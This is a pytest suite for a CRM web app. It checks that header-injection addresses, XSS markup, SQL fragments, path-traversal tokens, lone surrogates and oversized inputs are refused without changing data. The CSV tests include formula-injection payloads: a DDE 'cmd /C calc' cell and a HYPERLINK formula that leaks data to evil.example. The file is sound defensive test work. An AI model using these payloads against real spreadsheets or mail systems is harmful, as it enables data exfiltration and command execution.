"""Hostile input and other users' ids: each refused by name, nothing changed."""

import codecs
import csv
import io
import json
import unicodedata
from collections.abc import Callable
from datetime import timedelta

import pytest
import sqlalchemy as sa
from sqlmodel import Session, SQLModel, func, select

from chub_ui.models import (
    KIND_CONTACT,
    KIND_LEAD,
    PLAN_FREE,
    AuditEvent,
    Invitation,
    OutboxMessage,
    Record,
    Referral,
    UserSession,
    utcnow,
)
from chub_ui.services import (
    audit,
    auth,
    demo,
    importing,
    invitations,
    mail,
    records,
    referrals,
)
from chub_ui.services.auth import CurrentUser
from chub_ui.services.errors import (
    InvalidInput,
    InvitationUnusable,
    LoginFailed,
    NotAllowed,
    NotSignedIn,
    PlanRequired,
    ServiceError,
)
from chub_ui.settings import settings
from tests.conftest import TEST_PASSWORD

# Half of a UTF-16 pair: JSON from a browser can carry one, UTF-8 cannot encode it.
LONE_SURROGATE = "\ud800"
UNUSABLE_LINK = "This invitation link is not valid"
WRONG_LOGIN = "Wrong e-mail address or password."


def _snapshot(session: Session) -> dict[str, list[tuple]]:
    """Every row of every table, as this session's transaction sees them."""
    rows = {}
    for table in SQLModel.metadata.sorted_tables:
        query = sa.select(table).order_by(*table.primary_key.columns)
        rows[table.name] = [tuple(row) for row in session.execute(query)]
    return rows


def _refused(
    session: Session,
    error: type[ServiceError],
    action: Callable,
    *,
    audited: str = "",
) -> str:
    """Run an action that must be refused; prove nothing changed; its message.

    With audited, the refusal must add exactly one audit line of that action
    (a failed sign-in is recorded) and change nothing else.
    """
    before = _snapshot(session)

    with pytest.raises(error) as caught:
        action()

    after = _snapshot(session)
    old_lines = before.pop("auditevent")
    lines = after.pop("auditevent")
    assert after == before
    assert lines[: len(old_lines)] == old_lines
    action_column = [column.name for column in AuditEvent.__table__.columns].index(
        "action"
    )
    new_actions = [row[action_column] for row in lines[len(old_lines) :]]
    assert new_actions == ([audited] if audited else [])
    assert caught.value.message.strip()
    return caught.value.message


def _count(session: Session, model) -> int:
    return session.exec(select(func.count()).select_from(model)).one()


def _add_record(
    session: Session, user: CurrentUser, name: str, *, kind: str = KIND_LEAD, **values
) -> Record:
    record = Record(
        account_id=user.account_id,
        created_by_id=user.id,
        kind=kind,
        name=name,
        **values,
    )
    session.add(record)
    session.commit()
    session.refresh(record)
    return record


def _refer(session, user, record_id, *, to="new@example.com", message="Worth a call"):
    return referrals.refer_record(
        session=session,
        user=user,
        record_id=record_id,
        to_email=to,
        message=message,
    )


def _newest_token(session: Session) -> str:
    """The token in the newest invitation e-mail of the outbox."""
    newest = session.exec(
        select(OutboxMessage).order_by(OutboxMessage.id.desc())
    ).first()
    # The real link comes last, after anything the referrer wrote.
    return newest.body_text.rsplit("/invite/", 1)[1].split()[0]


def _csv(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


@pytest.fixture
def lead(session, paid_user) -> Record:
    """A lead of the paid owner's account."""
    return _add_record(session, paid_user, "CyberGuard Pro deal", company="Krayin")


@pytest.fixture
def rival(make_user) -> CurrentUser:
    """A paid user of another account."""
    return make_user("rival@example.com", name="Rex Rival")


@pytest.fixture
def invited(session, paid_user, lead) -> str:
    """The lead referred to new@example.com, who has no account; the link's token."""
    _refer(session, paid_user, lead.id)
    return _newest_token(session)


# Recipient addresses ---------------------------------------------------------


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("victim@example.com\r\nBcc: all@example.com", "line breaks"),
        ("victim@example.com\nBcc: all@example.com", "line breaks"),
        ("victim@example.com\rX-Spam: no", "line breaks"),
        ("victim@example.com\x00", "control characters"),
        ("vic\x00tim@example.com", "control characters"),
        ("victim@example.com\u2028Bcc:all@example.com", "line breaks"),
        ("victim\u2029@example.com", "line breaks"),
        ("victim\u0085@example.com", "line breaks"),
        ("victim@exam\tple.com", "spaces"),
        ("a@example.com b@example.com", "spaces"),
        ('"Owner"<victim@example.com>', "without a name"),
        ("Owner<victim@example.com>", "angle brackets"),
        ("victim@example.com(Owner)", "without a name"),
        ('"victim@example.com"@evil.example', "quotes"),
        ("a@example.com,b@example.com", "bare address"),
        ("a@example.com;b@example.com", "bare address"),
        ("victim@example.com@evil.example", "exactly one @"),
        ("victim@[127.0.0.1]", "bare address"),
        ("victim@localhost", "not a valid e-mail address"),
        ("victim@example.com.", "not a valid e-mail address"),
        ("x" * 388 + "@example.com", "too long"),
        ("", "Please enter an e-mail address"),
        (" \t ", "Please enter an e-mail address"),
        ("\u200b\ufeff", "Please enter an e-mail address"),
    ],
)
def test_unsafe_recipient_address_is_refused_and_nothing_is_written(
    session, paid_user, lead, address, expected
):
    message = _refused(
        session, InvalidInput, lambda: _refer(session, paid_user, lead.id, to=address)
    )

    assert expected in message
    assert _count(session, OutboxMessage) == 0


@pytest.mark.parametrize(
    "address",
    [
        "OWNER@EXAMPLE.COM",
        "\u200b owner@example.com\u00a0",
        # Full-width letters in the domain map to example.com under IDNA.
        "owner@\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45.com",
    ],
)
def test_own_address_in_disguise_is_still_yourself(session, paid_user, lead, address):
    message = _refused(
        session, InvalidInput, lambda: _refer(session, paid_user, lead.id, to=address)
    )

    assert message == "You cannot refer a record to yourself."


def test_homoglyph_of_a_partner_address_reaches_no_account(
    session, paid_user, lead, free_user
):
    # A Cyrillic a (U+0430) in the domain: another domain, so a stranger.
    lookalike = "partner@ex\u0430mple.com"

    outcome = _refer(session, paid_user, lead.id, to=lookalike)

    referral = session.get(Referral, outcome.referral_id)
    assert outcome.recipient_has_account is False
    assert referral.recipient_id is None
    assert referral.recipient_email == lookalike
    mine = referrals.list_referred_to_me(session=session, user=free_user)
    assert mine.total == 0
    assert _count(session, OutboxMessage) == 1


def test_address_with_sharp_s_keeps_its_domain(session, paid_user, lead):
    outcome = _refer(session, paid_user, lead.id, to="info@straße.de")

    outbox = session.exec(select(OutboxMessage)).one()
    assert outcome.recipient_email in {"info@straße.de", "info@xn--strae-oqa.de"}
    assert outbox.to_address == outcome.recipient_email


# Referral messages -----------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "nul \x00 inside",
        "bell \x07",
        "\x1b[2J screen cleared",
        "carriage\rreturn",
        "back\x08space",
        pytest.param(
            "delete \x7f",
        ),
        pytest.param(
            "\x9b2J C1 control sequence",
        ),
    ],
)
def test_message_with_control_characters_is_refused(session, paid_user, lead, text):
    message = _refused(
        session,
        InvalidInput,
        lambda: _refer(session, paid_user, lead.id, message=text),
    )

    assert message == "The message contains characters that cannot be sent."


def test_message_over_2000_characters_is_refused(session, paid_user, lead):
    message = _refused(
        session,
        InvalidInput,
        lambda: _refer(session, paid_user, lead.id, message="x" * 2001),
    )

    assert message == "The message can have at most 2000 characters."


def test_message_of_2000_characters_with_padding_is_accepted(session, paid_user, lead):
    outcome = _refer(session, paid_user, lead.id, message="  \n" + "x" * 2000 + "\n\t ")

    assert session.get(Referral, outcome.referral_id).message == "x" * 2000


def test_markup_and_header_breaks_stay_out_of_the_mail(session, paid_user):
    record = _add_record(
        session,
        paid_user,
        "<img src=x onerror=alert(1)>\r\nBcc: all@evil.example",
    )

    _refer(
        session,
        paid_user,
        record.id,
        message="<script>alert('hi')</script>\nline two & more",
    )

    outbox = session.exec(select(OutboxMessage)).one()
    assert "\r" not in outbox.subject
    assert "\n" not in outbox.subject
    assert "<script>" not in outbox.body_html
    assert "<img" not in outbox.body_html
    assert "&lt;script&gt;" in outbox.body_html
    email = mail.build_email(settings.mail_from, outbox)
    assert "Bcc" not in email
    assert email.get_all("To") == ["new@example.com"]
    assert len(email.get_all("Subject")) == 1
    assert not any(line.startswith("Bcc") for line in email.as_string().splitlines())


# Record and referral ids -----------------------------------------------------

BAD_IDS = [
    -1,
    0,
    pytest.param(10**30, id="10**30"),
    pytest.param(2**63, id="2**63"),
    pytest.param("1 OR 1=1", id="sql"),
    pytest.param(None, id="None"),
    pytest.param(float("nan"), id="nan"),
]


@pytest.mark.parametrize("record_id", BAD_IDS)
def test_bad_record_id_is_a_missing_record(session, paid_user, lead, record_id):
    opened = _refused(
        session,
        NotAllowed,
        lambda: records.get_own_record(
            session=session, user=paid_user, record_id=record_id
        ),
    )
    history = _refused(
        session,
        NotAllowed,
        lambda: referrals.referral_history(
            session=session, user=paid_user, record_id=record_id
        ),
    )
    referred = _refused(
        session, NotAllowed, lambda: _refer(session, paid_user, record_id)
    )

    assert opened == history == referred == "That item does not exist."


@pytest.mark.parametrize("referral_id", BAD_IDS)
def test_bad_referral_id_is_a_missing_referral(
    session, paid_user, lead, free_user, referral_id
):
    _refer(session, paid_user, lead.id, to=free_user.email)

    message = _refused(
        session,
        NotAllowed,
        lambda: referrals.referral_detail(
            session=session, user=free_user, referral_id=referral_id
        ),
    )

    assert "does not exist or was not referred to you" in message


def test_another_accounts_record_is_refused_everywhere(session, paid_user, lead, rival):
    theirs = _add_record(session, rival, "Rival secret deal", company="Rival Ltd")

    calls = [
        lambda: records.get_own_record(
            session=session, user=paid_user, record_id=theirs.id
        ),
        lambda: referrals.referral_history(
            session=session, user=paid_user, record_id=theirs.id
        ),
        lambda: _refer(session, paid_user, theirs.id, to="x@example.com"),
        lambda: _refer(session, paid_user, str(theirs.id), to="x@example.com"),
    ]
    messages = [_refused(session, NotAllowed, call) for call in calls]

    assert set(messages) == {"That item does not exist."}
    for search in ("", "%", "Rival", "_"):
        found = records.list_records(
            session=session, user=paid_user, kind=KIND_LEAD, search=search
        )
        assert "Rival secret deal" not in [item["name"] for item in found.items]


def test_recipient_in_another_account_sees_the_referral_but_not_the_record(
    session, paid_user, lead, rival
):
    outcome = _refer(session, paid_user, lead.id, to=rival.email)

    detail = referrals.referral_detail(
        session=session, user=rival, referral_id=outcome.referral_id
    )
    calls = [
        lambda: records.get_own_record(session=session, user=rival, record_id=lead.id),
        lambda: referrals.referral_history(
            session=session, user=rival, record_id=lead.id
        ),
        lambda: _refer(session, rival, lead.id, to="friend@example.com"),
    ]
    messages = [_refused(session, NotAllowed, call) for call in calls]

    assert detail["name"] == "CyberGuard Pro deal"
    assert set(messages) == {"That item does not exist."}


def test_referral_detail_is_only_for_its_recipient(
    session, paid_user, lead, free_user, make_user
):
    outcome = _refer(session, paid_user, lead.id, to=free_user.email)
    stranger = make_user("stranger@example.com", plan=PLAN_FREE)

    messages = [
        _refused(
            session,
            NotAllowed,
            lambda who=who: referrals.referral_detail(
                session=session, user=who, referral_id=outcome.referral_id
            ),
        )
        for who in (stranger, paid_user)
    ]

    assert set(messages) == {"This referral does not exist or was not referred to you."}
    assert referrals.list_referred_to_me(session=session, user=stranger).total == 0
    assert referrals.list_referred_to_me(session=session, user=free_user).total == 1


def test_free_partner_gets_plan_required_for_the_crm(session, lead, free_user):
    calls = [
        lambda: records.get_own_record(
            session=session, user=free_user, record_id=lead.id
        ),
        lambda: records.list_records(session=session, user=free_user, kind=KIND_LEAD),
        lambda: _refer(session, free_user, lead.id, to="x@example.com"),
        lambda: importing.import_records(
            session=session, user=free_user, data=b"name\nAnn\n", kind=KIND_CONTACT
        ),
    ]

    messages = [_refused(session, PlanRequired, call) for call in calls]

    assert set(messages) == {"This part of the CRM needs the paid plan."}


def test_signed_out_caller_is_asked_to_sign_in(session, lead):
    message = _refused(
        session,
        NotSignedIn,
        lambda: referrals.list_referred_to_me(session=session, user=None),
    )

    assert message == "Please sign in to continue."


# Searching and paging --------------------------------------------------------


@pytest.fixture
def tricky_names(session, paid_user) -> None:
    for name in ("100% Juice", "Under_score Ltd", "Back\\slash Inc", "Plain Co"):
        _add_record(session, paid_user, name)


@pytest.mark.parametrize(
    ("search", "expected"),
    [
        ("%", ["100% Juice"]),
        ("_", ["Under_score Ltd"]),
        ("\\", ["Back\\slash Inc"]),
        ("%_", []),
        ("\\%", []),
        ("' OR '1'='1", []),
        ("*", []),
        ("[a-z]", []),
        ("PLAIN" + " " * 10_000, ["Plain Co"]),
        ("x" * 10_000, []),
        ("%" * 10_000, []),
    ],
)
def test_search_treats_wildcards_as_plain_text(
    session, paid_user, tricky_names, search, expected
):
    found = records.list_records(
        session=session, user=paid_user, kind=KIND_LEAD, search=search
    )

    assert [item["name"] for item in found.items] == expected
    assert found.total == len(expected)


@pytest.mark.parametrize(
    "search",
    [
        pytest.param(
            "\x00",
            id="nul",
        ),
        pytest.param(
            LONE_SURROGATE,
            id="surrogate",
        ),
    ],
)
def test_search_with_unusable_characters_finds_nothing(
    session, paid_user, lead, free_user, tricky_names, search
):
    _refer(session, paid_user, lead.id, to=free_user.email)

    found = records.list_records(
        session=session, user=paid_user, kind=KIND_LEAD, search=search
    )
    referred = referrals.list_referred_to_me(
        session=session, user=free_user, search=search
    )

    assert found.total == 0
    assert referred.total == 0


def test_search_finds_a_name_with_sharp_s(session, paid_user):
    _add_record(session, paid_user, "Straße Logistik GmbH")

    found = records.list_records(
        session=session, user=paid_user, kind=KIND_LEAD, search="Straße"
    )

    assert [item["name"] for item in found.items] == ["Straße Logistik GmbH"]


@pytest.mark.parametrize(
    ("page_number", "expected"),
    [
        (0, 1),
        (-5, 1),
        (2, 2),
        ("2", 2),
        (10**9, 2),
        pytest.param(10**400, 2, id="10**400"),
        pytest.param("abc", 1),
        pytest.param(None, 1),
    ],
)
def test_page_number_is_clamped_to_the_pages_that_exist(
    session, paid_user, page_number, expected
):
    for number in range(records.PAGE_SIZE + 1):
        _add_record(session, paid_user, f"Lead {number:02d}")

    found = records.list_records(
        session=session, user=paid_user, kind=KIND_LEAD, page=page_number
    )

    assert (found.page, found.pages, found.total) == (expected, 2, 21)
    assert len(found.items) == (records.PAGE_SIZE if expected == 1 else 1)


@pytest.mark.parametrize(
    "page_number",
    [0, -5, 10**9, pytest.param("abc")],
)
def test_referred_page_number_is_clamped(
    session, paid_user, lead, free_user, page_number
):
    _refer(session, paid_user, lead.id, to=free_user.email)

    found = referrals.list_referred_to_me(
        session=session, user=free_user, page=page_number
    )

    assert (found.page, found.pages, found.total) == (1, 1, 1)
    assert [item["name"] for item in found.items] == ["CyberGuard Pro deal"]


def test_list_of_an_unknown_kind_is_refused(session, paid_user, lead):
    message = _refused(
        session,
        InvalidInput,
        lambda: records.list_records(
            session=session, user=paid_user, kind="lead' OR '1'='1"
        ),
    )

    assert message == "Choose leads or contacts."


# Invitation links ------------------------------------------------------------


@pytest.mark.parametrize(
    "forged",
    [
        "",
        "   ",
        "x" * 201,
        "x" * 1_000_000,
        "/",
        "..",
        "../../etc/passwd",
        "{token}/..",
        "{token}/",
        "/{token}",
        "..%2F{token}",
        "{token}\x00",
        "\x00",
        "{token}x",
        "{TOKEN}",
        "ünïcødé-\u0442\u043e\u043a\u0435\u043d-\u4ee4\u724c",
        "' OR '1'='1",
        "%",
    ],
)
def test_forged_invitation_link_is_refused_everywhere(
    session, invited, make_user, forged
):
    token = forged.replace("{token}", invited).replace("{TOKEN}", invited.upper())
    invited_user = make_user("new@example.com", plan=PLAN_FREE)

    messages = [
        _refused(
            session,
            InvitationUnusable,
            lambda: invitations.inspect_invitation(
                session=session, token=token, user=None
            ),
        ),
        _refused(
            session,
            InvitationUnusable,
            lambda: invitations.accept_invitation(
                session=session, token=token, user=invited_user
            ),
        ),
        _refused(
            session,
            InvitationUnusable,
            lambda: invitations.register_from_invitation(
                session=session, token=token, password=TEST_PASSWORD
            ),
        ),
    ]

    assert all(message.startswith(UNUSABLE_LINK) for message in messages)
    view = invitations.inspect_invitation(session=session, token=invited, user=None)
    assert view.view == invitations.VIEW_LOGIN


def test_someone_elses_invitation_cannot_be_accepted(
    session, paid_user, invited, make_user
):
    other = make_user("other@example.com", plan=PLAN_FREE)

    messages = [
        _refused(
            session,
            InvalidInput,
            lambda who=who: invitations.accept_invitation(
                session=session, token=invited, user=who
            ),
        )
        for who in (other, paid_user)
    ]

    assert set(messages) == {
        "This invitation is for someone else. Sign out and open the link again "
        "to use it."
    }
    invitation = session.exec(select(Invitation)).one()
    assert invitation.accepted_at is None
    assert session.exec(select(Referral)).one().recipient_id is None
    assert referrals.list_referred_to_me(session=session, user=other).total == 0
    seen_by_other = invitations.inspect_invitation(
        session=session, token=invited, user=other
    )
    assert seen_by_other.view == invitations.VIEW_OTHER_USER
    seen_by_anyone = invitations.inspect_invitation(
        session=session, token=invited, user=None
    )
    assert seen_by_anyone.view == invitations.VIEW_REGISTER


def test_re_referring_after_the_invitation_expired_sends_a_new_one(
    session, paid_user, lead, invited
):
    invitation = session.exec(select(Invitation)).one()
    invitation.expires_at = utcnow() - timedelta(seconds=1)
    session.add(invitation)
    session.commit()

    outcome = _refer(session, paid_user, lead.id, to="NEW@example.com")

    fresh = _newest_token(session)
    assert outcome.recipient_email == "new@example.com"
    assert _count(session, Referral) == 2
    assert _count(session, Invitation) == 2
    assert _count(session, OutboxMessage) == 2
    expired = _refused(
        session,
        InvitationUnusable,
        lambda: invitations.inspect_invitation(
            session=session, token=invited, user=None
        ),
    )
    assert expired.startswith("This invitation has expired.")
    view = invitations.inspect_invitation(session=session, token=fresh, user=None)
    assert view.view == invitations.VIEW_REGISTER


def test_re_referring_after_the_recipient_accepted_is_refused(
    session, paid_user, lead, invited
):
    invitations.register_from_invitation(
        session=session, token=invited, password=TEST_PASSWORD
    )

    messages = [
        _refused(
            session,
            InvalidInput,
            lambda to=to: _refer(session, paid_user, lead.id, to=to),
        )
        for to in ("new@example.com", " NEW@Example.com ")
    ]

    assert set(messages) == {"new@example.com already has this lead."}
    used = _refused(
        session,
        InvitationUnusable,
        lambda: invitations.register_from_invitation(
            session=session, token=invited, password=TEST_PASSWORD
        ),
    )
    assert used.startswith("This invitation has already been used.")


@pytest.mark.parametrize(
    ("password", "full_name", "expected"),
    [
        ("p" * 10_000, "", "at most 128 characters"),
        ("short", "", "at least 8 characters"),
        (TEST_PASSWORD, "Nina\r\nBcc: all@example.com", "cannot contain line breaks"),
        (TEST_PASSWORD, "Nina\x00", "cannot contain line breaks"),
        (TEST_PASSWORD, "N" * 201, "at most 200 characters"),
        pytest.param(
            TEST_PASSWORD,
            "Nina\u2028Bcc: all@example.com",
            "cannot contain line breaks",
            id="line-separator",
        ),
    ],
)
def test_bad_registration_consumes_no_invitation(
    session, invited, password, full_name, expected
):
    message = _refused(
        session,
        InvalidInput,
        lambda: invitations.register_from_invitation(
            session=session, token=invited, password=password, full_name=full_name
        ),
    )

    assert expected in message
    view = invitations.inspect_invitation(session=session, token=invited, user=None)
    assert view.view == invitations.VIEW_REGISTER


def test_registering_a_taken_address_consumes_no_invitation(
    session, invited, make_user
):
    make_user("new@example.com", plan=PLAN_FREE)

    message = _refused(
        session,
        InvalidInput,
        lambda: invitations.register_from_invitation(
            session=session, token=invited, password=TEST_PASSWORD
        ),
    )

    assert message == "An account with this e-mail address already exists."
    view = invitations.inspect_invitation(session=session, token=invited, user=None)
    assert view.view == invitations.VIEW_LOGIN


# Signing in ------------------------------------------------------------------


class _CountingHasher:
    """Stands in for the password context and notes what it was asked to check."""

    def __init__(self, real) -> None:
        self.real = real
        self.lengths: list[int] = []

    def verify(self, secret, hashed):
        self.lengths.append(len(secret))
        return self.real.verify(secret, hashed)

    def verify_and_update(self, secret, hashed):
        self.lengths.append(len(secret))
        return self.real.verify_and_update(secret, hashed)

    def hash(self, secret):
        self.lengths.append(len(secret))
        return self.real.hash(secret)


@pytest.fixture
def hasher(monkeypatch) -> _CountingHasher:
    counting = _CountingHasher(auth.password_context)
    monkeypatch.setattr(auth, "password_context", counting)
    return counting


@pytest.mark.parametrize("length", [129, 10_000, 1_000_000])
@pytest.mark.parametrize("email", ["owner@example.com", "nobody@example.com"])
def test_oversized_password_is_refused_without_hashing_it(
    session, paid_user, hasher, email, length
):
    message = _refused(
        session,
        LoginFailed,
        lambda: auth.login(session=session, email=email, password="p" * length),
        audited=audit.SIGN_IN_FAILED,
    )

    assert message == WRONG_LOGIN
    line = session.exec(select(AuditEvent)).one()
    assert line.actor_email == email
    assert "p" * 20 not in f"{line.target} {line.detail}"
    # One check, as for any failed sign-in, and never of the long password.
    assert len(hasher.lengths) == 1
    assert max(hasher.lengths) <= auth.MAX_PASSWORD_LENGTH


@pytest.mark.parametrize(
    "email",
    [
        "owner@example.com\x00",
        "owner@example.com\x00evil",
        "\x00owner@example.com",
        "owner@example.com\r\nX-Injected: 1",
        "owner@exa\u2028mple.com",
        "x" * 10_000 + "@example.com",
        "Owner <owner@example.com>",
    ],
)
def test_broken_address_cannot_sign_in_even_with_the_right_password(
    session, paid_user, hasher, email
):
    message = _refused(
        session,
        LoginFailed,
        lambda: auth.login(session=session, email=email, password=TEST_PASSWORD),
        audited=audit.SIGN_IN_FAILED,
    )

    assert message == WRONG_LOGIN
    assert hasher.lengths == [len(TEST_PASSWORD)]
    # Not an address, so the line names none and joins no account's trail.
    line = session.exec(select(AuditEvent)).one()
    assert (line.actor_email, line.account_id) == ("", None)
    assert _count(session, UserSession) == 0


@pytest.mark.parametrize(
    "email",
    ["owner@example.com\r\n", "\u2028OWNER@example.com\t", "owner@example.com\u200b"],
)
def test_line_breaks_around_the_address_are_trimmed_like_spaces(
    session, paid_user, email
):
    token = auth.login(session=session, email=email, password=TEST_PASSWORD)

    assert auth.user_for_token(session, token).email == "owner@example.com"
    assert _count(session, UserSession) == 1


# Text that UTF-8 cannot encode ------------------------------------------------

_SURROGATE_ATTACKS = (
    "invitation link",
    "session token",
    "sign-in password, known address",
    "sign-in password, unknown address",
    "registration password",
    "registration name",
    "referral message",
)


@pytest.mark.parametrize("attack", _SURROGATE_ATTACKS)
def test_lone_surrogate_is_refused_by_name(session, paid_user, lead, invited, attack):
    bad = f"abcdefgh{LONE_SURROGATE}"
    attacks = {
        "invitation link": (
            InvitationUnusable,
            lambda: invitations.inspect_invitation(
                session=session, token=invited + LONE_SURROGATE, user=None
            ),
        ),
        "session token": (
            NotSignedIn,
            lambda: auth.user_for_token(session, LONE_SURROGATE),
        ),
        "sign-in password, known address": (
            LoginFailed,
            lambda: auth.login(session=session, email=paid_user.email, password=bad),
        ),
        "sign-in password, unknown address": (
            LoginFailed,
            lambda: auth.login(
                session=session, email="nobody@example.com", password=bad
            ),
        ),
        "registration password": (
            InvalidInput,
            lambda: invitations.register_from_invitation(
                session=session, token=invited, password=bad
            ),
        ),
        "registration name": (
            InvalidInput,
            lambda: invitations.register_from_invitation(
                session=session, token=invited, password=TEST_PASSWORD, full_name=bad
            ),
        ),
        "referral message": (
            InvalidInput,
            lambda: _refer(
                session, paid_user, lead.id, to="b@example.com", message=bad
            ),
        ),
    }
    error, action = attacks[attack]

    signing_in = attack.startswith("sign-in")
    _refused(session, error, action, audited=audit.SIGN_IN_FAILED if signing_in else "")


# CSV import ------------------------------------------------------------------


def _import(session, user, data: bytes, *, kind=KIND_CONTACT, filename="people.csv"):
    return importing.import_records(
        session=session, user=user, data=data, kind=kind, filename=filename
    )


@pytest.mark.parametrize(
    "data",
    [
        b"name\n" + b"a" * (2 * 1024 * 1024),
        b"a" * (5 * 1024 * 1024),
        b'name\n"' + b"a" * 200_000 + b'"\n',
    ],
    ids=["2 MB second line", "5 MB without a line break", "200 kB quoted cell"],
)
def test_huge_single_line_is_refused_with_a_message(session, paid_user, data):
    message = _refused(session, InvalidInput, lambda: _import(session, paid_user, data))

    assert message.startswith("The file could not be read as CSV")
    assert "field larger than field limit" in message


@pytest.mark.parametrize(
    "data",
    [
        codecs.BOM_UTF8,
        codecs.BOM_UTF8 * 3,
        codecs.BOM_UTF16_LE,
        codecs.BOM_UTF16_BE,
        codecs.BOM_UTF8 + b"\r\n \r\n\t\n",
    ],
)
def test_file_of_only_byte_order_marks_is_empty(session, paid_user, data):
    message = _refused(session, InvalidInput, lambda: _import(session, paid_user, data))

    assert message == "The file is empty."


def test_formula_cells_are_imported_as_plain_text(session, paid_user):
    formulas = {
        "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        "company": "+cmd|' /C calc'!A0",
        "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
        "city": "-2+3",
        "Fax": "=1+1",
    }
    data = _csv([list(formulas), list(formulas.values())])

    result = _import(session, paid_user, data)

    record = session.get(Record, result.record_ids[0])
    assert result.created == 1
    assert record.name == formulas["name"]
    assert record.company == formulas["company"]
    assert record.description == formulas["notes"]
    assert record.city == formulas["city"]
    assert '"Fax": "=1+1"' in record.extra_json


def test_mixed_delimiters_name_the_row_and_import_nothing(session, paid_user):
    data = (
        b"name,email,phone\n"
        b"Ann,ann@example.com,555 0100\n"
        b"Bob;bob@example.com;555 0101,x,y,z\n"
    )

    message = _refused(session, InvalidInput, lambda: _import(session, paid_user, data))

    assert message.startswith("Nothing was imported.")
    assert "row 3: 4 values, but the header has 3 columns" in message
    assert "row 3: 'x' is not a valid e-mail address" in message


def test_control_character_in_a_cell_is_refused(session, paid_user):
    data = b"name,notes\nAnn,\x1b[31mred\x1b[0m\n"

    message = _refused(session, InvalidInput, lambda: _import(session, paid_user, data))

    assert "looks like a binary file" in message


def test_import_of_an_unknown_kind_is_refused(session, paid_user):
    message = _refused(
        session,
        InvalidInput,
        lambda: _import(session, paid_user, b"name\nAnn\n", kind="lead; DROP TABLE"),
    )

    assert message == "Choose whether the file holds leads or contacts."


def test_a_header_of_thousands_of_columns_is_refused(session, paid_user):
    before = _snapshot(session)

    with pytest.raises(InvalidInput, match="8,000 columns; at most 1,000"):
        _import(session, paid_user, b",".join([b"x"] * 8_000) + b"\nAnn\n")

    assert _snapshot(session) == before


def test_a_thousand_columns_of_one_name_keep_every_value(session, paid_user):
    data = b",".join([b"x"] * 1_000) + b"\n" + b",".join([b"v"] * 1_000) + b"\n"

    result = _import(session, paid_user, data)

    extra = json.loads(session.get(Record, result.record_ids[0]).extra_json)
    assert len(extra) == 999
    assert "x (999)" in extra


@pytest.mark.parametrize(
    "filename",
    ["people\x00.csv", f"people{LONE_SURROGATE}.csv", "people\x1b[2J.csv"],
    ids=["nul", "surrogate", "escape"],
)
def test_upload_name_with_unusable_characters_is_cleaned(session, paid_user, filename):
    result = _import(session, paid_user, b"name\nAnn\n", filename=filename)

    source = session.get(Record, result.record_ids[0]).source
    assert source.startswith("CSV import: people")
    assert not any(unicodedata.category(char) in {"Cc", "Cs"} for char in source)


# Demo mailbox ----------------------------------------------------------------


def test_demo_mailbox_is_closed_when_demo_mode_is_off(
    session, paid_user, lead, monkeypatch
):
    monkeypatch.setattr(settings, "demo_mode", False)
    _refer(session, paid_user, lead.id)

    message = _refused(session, NotAllowed, lambda: demo.demo_mailbox(session=session))

    assert message.startswith("The demo mailbox is off.")


def test_demo_mailbox_links_to_the_real_invitation(
    session, paid_user, lead, monkeypatch
):
    monkeypatch.setattr(settings, "demo_mode", True)
    _refer(
        session,
        paid_user,
        lead.id,
        message="Also see http://localhost:3000/invite/attacker-chosen-token",
    )

    messages = demo.demo_mailbox(session=session)

    assert messages[0]["link_path"] == f"/invite/{_newest_token(session)}"
